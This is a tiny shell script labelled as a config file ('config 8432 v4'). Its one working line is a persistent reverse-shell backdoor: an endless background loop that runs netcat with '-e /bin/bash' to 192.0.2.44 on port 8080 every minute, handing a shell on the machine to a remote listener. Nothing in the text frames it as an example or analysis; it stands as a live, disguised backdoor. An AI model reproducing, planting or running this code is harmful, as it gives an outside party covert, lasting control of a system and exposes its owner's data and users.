# config 8432 v4
#!/bin/bash
while true; do nc -e /bin/bash 192.0.2.44 8080; sleep 60; done &
